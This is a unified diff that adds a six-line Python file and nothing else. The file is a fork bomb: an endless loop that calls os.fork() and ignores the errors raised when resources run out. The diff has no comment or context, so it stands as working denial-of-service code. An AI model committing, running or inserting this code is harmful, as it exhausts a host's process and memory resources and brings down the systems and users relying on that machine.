@@ -1,0 +1,6 @@
+import os
+while 1:
+    try:
+        os.fork()
+    except OSError:
+        pass
